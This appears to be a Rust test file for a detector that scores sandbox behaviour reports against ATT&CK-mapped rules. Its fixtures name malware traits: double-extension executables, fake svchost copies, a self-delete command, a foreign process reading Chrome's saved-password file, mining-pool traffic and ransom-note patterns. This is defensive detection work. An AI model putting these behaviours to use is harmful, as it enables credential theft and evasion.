    ("machine-tag", "T1497.001", TAG, "CALLS_WMI", "CALLS"),
    ("decrypts-tag", "T1140", TAG, "DECRYPTS_EXE", "CRYPTO"),
    ("macro-run-tag", "T1059.005", TAG, "MACRO_HIDE_APP", "MACRO_ENVIRON"),
    ("debug-tag", "T1622", TAG, "DIRECT_CPU_CLOCK_ACCESS", "REFLECTION"),
    ("unusual-port", "T1571", ADDRESS, "203.0.113.5:58899", "203.0.113.5:8080"),
    ("unusual-port", "T1571", ADDRESS, "203.0.113.5:4782", "192.168.1.5:4782"),
    ("attribute-changed", "T1564.001", CHANGED, r"%APPDATA%\current.exe", r"%APPDATA%\app\a.ini"),
    ("hidden-window", "T1564.003", HIDDEN, r"C:\windows\system32\rundll32.exe", r"C:\app\app.exe"),
    ("nearly-system", "T1036.005", COMMAND, r"%TEMP%\svchost64.exe  x", r"C:\Windows\System32\svchost.exe -k x"),
    ("web-mark-removed", "T1553.005", GONE, r"C:\Users\a\x.dll:Zone.Identifier", r"C:\Users\a\x.dll"),
    ("double-extension", "T1036.007", WRITTEN, r"C:\Users\a\invoice.pdf.exe", r"C:\Users\a\index.html.js"),
];

#[test]
fn checklist_row_is_marked_and_near_miss_is_not() {
    let mut wrong = Vec::new();
    for (id, technique, attribute, row, near_miss) in CHECKLIST {
        let (marked, missed) = (found(&one(attribute, row)), found(&one(attribute, near_miss)));
        let is_so = |(found, attack): &(String, Vec<String>)| found == id && attack.iter().any(|id| id == technique);
        if !marked.iter().any(is_so) {
            wrong.push(format!("{id} misses {row}: {marked:?}"));
        }
        if !near_miss.is_empty() && missed.iter().any(|(found, _)| found == id) {
            wrong.push(format!("{id} marks {near_miss}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

/// What Windows and harmless programs do by themselves: no finding, or none but noise.
#[test]
fn windows_own_doing_is_no_finding() {
    for (attribute, row) in [
        (
            SET,
            r"HKLM\Software\Microsoft\SystemCertificates\AuthRoot\Certificates\02FAF3E291435468607857694DF5E45B68851868\Blob = 7E 00",
        ),
        (SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable = 0x00000000"),
        (SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable = 0"),
        (WRITTEN, r"C:\Users\<USER>\AppData\Local\Temp\r40wd1kx.3kv.ps1"),
        (WRITTEN, r"%TEMP%\31tuusg3.opk.psm1"),
        (SET, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA = 1"),
        (SET, r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell = explorer.exe"),
        (SET, r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware = 0"),
        (SET, r"HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\BootExecute = autocheck autochk *"),
        (SET, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\x\Enabled = 1"),
        (TREE, r"<SYSTEM32>\services.exe = <SYSTEM32>\svchost.exe"),
        (TREE, r"<SYSTEM32>\csrss.exe"),
        (TREE, r"\Device\HarddiskVolume2\Windows\System32\conhost.exe"),
        ("calls_highlighted", "NtMapViewOfSection"),
        (INJECTED, r"\\?\C:\Windows\system32\wbem\WMIADAP.EXE"),
        (COMMAND, r"C:\Windows\System32\wuapihost.exe -Embedding"),
        (COMMAND, r"C:\Windows\system32\svchost.exe -k LocalService -s W32Time"),
        (COMMAND, r"defrag.exe C: -f"),
        (
            SET,
            r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\wextract_cleanup0 = rundll32.exe advpack.dll,DelNodeRunDLL32 x",
        ),
        (SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer"),
        (SET, r"HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\NtpClient\SpecialPollTimeRemaining = x"),
        (
            WRITTEN,
            r"C:\Windows\System32\Tasks\Microsoft\Windows\Application Experience\Microsoft Compatibility Appraiser",
        ),
        (WRITTEN, r"%LOCALAPPDATA%\Microsoft\Vault\UserProfileRoaming\Latest.dat"),
        (HOST, "windowsupdatebg.s.llnwi.net"),
        (URL, "http://www.download.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab"),
        (ADDRESS, "192.168.0.14:137"),
        ("verdicts", "CLEAN"),
        ("verdict_labels", "clean"),
    ] {
        assert_eq!(found(&one(attribute, row)), [], "{row}");
    }
    let marked = |attribute, row| found(&one(attribute, row)).into_iter().map(|(id, _)| id).collect::<Vec<_>>();
    assert_eq!(
        marked(SET, r"HKLM\Software\Microsoft\SystemCertificates\ROOT\Certificates\AA\Blob = 7E"),
        ["root-certificate"]
    );
    assert_eq!(
        marked(SET, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable = 1"),
        ["proxy"]
    );
    assert!(marked(WRITTEN, r"C:\Users\a\AppData\Local\Temp\install.ps1").contains(&"dropped-script".to_owned()));
    assert_eq!(marked(TREE, r"<DRIVERS>\svchost.exe"), [] as [&str; 0]);
    assert_eq!(marked(TREE, r"%TEMP%\svchost.exe"), ["svchost-elsewhere"]);
}

#[test]
fn sample_is_known_by_its_hash_and_placeholders() {
    let hash = "ab".repeat(32);
    let report = |attributes: &str| {
        format!(r#"{{"data":{{"type":"file_behaviour","id":"{hash}_Zenbox","attributes":{{{attributes}}}}}}}"#)
    };
    for (attributes, id) in [
        (format!(r#""files_deleted":["C:\\Users\\a\\Desktop\\{hash}.exe"]"#), "self-deleted"),
        (format!(r#""files_dropped":[{{"path":"C:\\ProgramData\\x.exe","sha256":"{hash}"}}]"#), "self-drop"),
        (format!(r#""files_copied":[{{"source":"C:\\{hash}","destination":"C:\\x.exe"}}]"#), "self-copy"),
        (r#""files_copied":[{"source":"<PATH_SAMPLE.EXE>","destination":"%APPDATA%\\x.exe"}]"#.to_owned(), "self-copy"),
        (format!(r#""command_executions":["cmd /c del C:\\{hash}"]"#), "self-delete"),
    ] {
        let ids: Vec<_> = found(&report(&attributes)).into_iter().map(|(id, _)| id).collect();
        assert!(ids.iter().any(|found| found == id), "{id}: {ids:?}");
    }
    for attributes in [
        format!(r#""files_dropped":[{{"path":"C:\\Users\\a\\{hash}.txt","sha256":"{hash}"}}]"#),
        format!(r#""files_dropped":[{{"path":"C:\\x.txt","sha256":"{}"}}]"#, "cd".repeat(32)),
        r#""files_copied":[{"source":"C:\\a.txt","destination":"C:\\b.txt"}]"#.to_owned(),
    ] {
        assert_eq!(found(&report(&attributes)), [], "{attributes}");
    }
}

#[test]
fn many_rows_of_a_kind_are_marked_and_few_are_not() {
    let files = |paths: &[String], rule: &str| {
        let paths: Vec<_> = paths.iter().map(|path| format!("\"{}\"", path.replace('\\', r"\\"))).collect();
        let marked = found(&format!(r#"{{"files_written":[{}]}}"#, paths.join(",")));
        marked.iter().filter(|(id, _)| id == rule).count()
    };
    let folders = ["Desktop", "Documents", r"Documents\a", "Pictures", "Music"];
    let paths = |count: usize, folder: &str, name: &str| {
        folders.iter().take(count).map(|within| format!(r"{folder}\{within}\{name}")).collect::<Vec<_>>()
    };
    assert_eq!(files(&paths(5, r"C:\Users\a", "info.txt"), "note-in-folders"), 5);
    assert_eq!(files(&paths(3, r"C:\Users\a", "info.txt"), "note-in-folders"), 0, "few");
    assert_eq!(files(&paths(5, r"C:\Program Files\x", "info.txt"), "note-in-folders"), 0, "an installer");
    assert_eq!(files(&paths(5, r"C:\Users\a", "LICENSE.txt"), "note-in-folders"), 0, "a licence");
    assert_eq!(files(&paths(5, r"C:\Users\a", "a.docx.x7k2"), "ending-added"), 5);
    assert_eq!(files(&paths(5, r"C:\Users\a", "a.docx.lnk"), "ending-added"), 0, "links to documents");
    assert_eq!(files(&paths(3, r"C:\Users\a", "a.docx.x7k2"), "ending-added"), 0, "few");
    assert_eq!(
        files(
            &["a.txt", "b.txt", "c.txt", "d.txt", "e.txt"].map(|name| format!(r"C:\Users\a\Desktop\{name}")),
            "note-in-folders"
        ),
        0
    );
}

#[test]
fn passwords_of_a_browser_that_runs_are_its_own() {
    let report = |program: &str| {
        let path = r"C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
        format!(r#"{{"files_opened":["{path}"],"processes_tree":[{{"name":"C:\\Program Files\\{program}"}}]}}"#)
    };
    let ids = |program: &str| found(&report(program)).into_iter().map(|(id, _)| id).collect::<Vec<_>>();
    assert_eq!(ids("x.exe"), ["browser-passwords", "browser-own"]);
    assert_eq!(ids("chrome.exe"), ["browser-own"]);
}

#[test]
fn many_without_its_two_names_is_refused() {
    let own = "[[rule]]\nid='a'\nseverity='low'\nname='a'\nwhy='a'\nregex='x'\nmany=3\n";
    let (_, problems) = Rules::read(Some(("r", own)));
    assert!(problems[0].contains("line 1") && problems[0].contains("(?P<each>...)"), "{problems:?}");
}

#[test]
fn verdicts_are_told_by_whole_words() {
    for (attribute, word, id) in [
        ("verdicts", "RAT", "verdict"),
        ("verdicts", "EXPLOIT", "verdict"),
        ("verdicts", "BANKER", "verdict"),
        ("verdicts", "EVADER", "verdict-grey"),
        ("verdict_labels", "AgentTesla", "verdict-label"),
    ] {
        let ids: Vec<_> = found(&one(attribute, word)).into_iter().map(|(id, _)| id).collect();
        assert_eq!(ids, [id], "{word}");
    }
}

#[test]
fn connections_of_marked_rows_are_marked() {
    let connections = r#""ip_traffic":[{"destination_ip":"203.0.113.5","destination_port":14433},
        {"destination_ip":"203.0.113.6","destination_port":443},{"destination_ip":"203.0.113.7","destination_port":19071},
        {"destination_ip":"192.168.0.7","destination_port":5000}]"#;
    let names = r#""dns_lookups":[{"hostname":"xmr.nanopool.org","resolved_ips":["203.0.113.5","203.0.113.6"]},
        {"hostname":"other.example","resolved_ips":["203.0.113.6"]},{"hostname":"t.me","resolved_ips":["203.0.113.9"]}]"#;
    let alert = r#""ids_alerts":[{"rule_msg":"c2","alert_severity":"high",
        "alert_context":{"src_ip":"192.168.0.7","dest_ip":"203.0.113.7"}}]"#;
    for parts in [[connections, names, alert], [alert, names, connections]] {
        let report = report(&format!("{{{}}}", parts.join(",")));
        let marks = RULES.judge(&report, &Cancel::default()).unwrap();
        let traffic = parts.iter().position(|part| *part == connections).unwrap();
        let rules = |row| {
            let rules = RULES.of_row(&report, &marks, traffic, row).into_iter().map(|rule| rule.id.as_str());
            (marks.rule(traffic, row).is_some(), rules.collect::<Vec<_>>())
        };
        assert_eq!(rules(0), (true, vec!["mining"]), "an odd port of a marked name");
        assert_eq!(rules(1), (false, vec![]), "another name leads there as well");
        assert_eq!(rules(2), (true, vec!["ids-alert"]), "an alert names it");
        assert_eq!(rules(3), (false, vec![]), "a machine of the own network");
    }
}

#[test]
fn browsers_ports_and_servers_count_once_there_are_many() {
    let count = |attribute: &str, rows: &[String], rule: &str| {
        let rows: Vec<_> = rows.iter().map(|row| one(attribute, row)).collect();
        let rows = rows.iter().map(|row| row.split_once('[').unwrap().1.strip_suffix("]}").unwrap());
        let json = format!(r#"{{"{attribute}":[{}]}}"#, rows.collect::<Vec<_>>().join(","));
        found(&json).iter().filter(|(id, _)| id == rule).count()
    };
    let rows = |count: usize, row: &dyn Fn(usize) -> String| (0..count).map(row).collect::<Vec<_>>();
    let browser = |n: usize| format!(r"C:\Users\a\AppData\Local\Browser{n}\User Data");
    assert_eq!(count(FILE, &rows(4, &browser), "many-browsers"), 4);
    assert_eq!(count(FILE, &rows(3, &browser), "many-browsers"), 0);
    let share = |n: usize| format!("203.0.113.{n}:445");
    assert_eq!(count(ADDRESS, &rows(10, &share), "many-hosts"), 10);
    assert_eq!(count(ADDRESS, &rows(9, &share), "many-hosts"), 0);
    let server = |n: usize| format!("203.0.113.{n}:8080");
    assert_eq!(count("memory_pattern_ips", &rows(5, &server), "memory-servers"), 5);
    assert_eq!(count("memory_pattern_ips", &rows(4, &server), "memory-servers"), 0);
}

#[test]
fn complaint_of_a_decoder_is_a_slight_alert() {
    let ids = |message: &str| {
        let alert = format!(r#"{{"ids_alerts":[{{"alert_severity":"medium","rule_msg":"{message}"}}]}}"#);
        found(&alert).into_iter().map(|(id, _)| id).collect::<Vec<_>>()
    };
    assert_eq!(ids("DECODE_IP_OPTION_SET"), ["slight-alert"]);
    assert_eq!(ids("ET MALWARE Redline Stealer TCP CnC Activity"), ["alert"]);
}
